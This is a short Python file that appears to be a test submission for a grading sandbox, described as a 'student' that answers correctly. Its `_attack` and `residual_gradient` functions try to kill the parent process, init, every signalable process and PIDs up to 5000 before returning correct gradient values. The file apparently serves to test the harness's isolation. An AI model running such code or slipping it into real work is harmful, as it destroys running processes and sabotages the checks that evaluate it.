"""A student who tries to kill or signal every process it can reach, then answers correctly."""

import math
import os
import signal


def _attack():
    for target in (os.getppid(), 1, -1):
        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(target, sig)
            except OSError:
                pass
    for pid in range(2, 5000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    try:
        os.killpg(0, signal.SIGKILL)        # its own group: itself; costs only this call
    except OSError:
        pass


def chain_gradient(local_grads):
    _attack()
    return math.prod(local_grads)


def residual_gradient(upstream, local_grads):
    for pid in range(1, 5000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return upstream * (math.prod(local_grads) + 1)


def plain_depth_gradient(n_layers, local=0.5, upstream=0.5):
    return upstream * local ** n_layers


def residual_blocks_gradient(n_layers, local=0.5, upstream=0.5):
    return upstream * (1 + local ** 2) ** (n_layers // 2)
